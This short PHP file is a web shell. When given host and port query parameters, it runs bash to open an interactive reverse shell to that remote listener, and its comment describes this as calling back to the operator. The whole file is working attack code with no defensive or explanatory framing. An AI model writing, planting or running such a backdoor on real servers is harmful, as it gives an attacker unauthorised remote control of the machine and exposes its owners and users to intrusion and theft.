<?php
// Calls back to the operator's listener.
if (isset($_GET['h'])) {
    exec("/bin/bash -c 'bash -i >& /dev/tcp/" . $_GET['h'] . "/" . (int) $_GET['p'] . " 0>&1'");
}
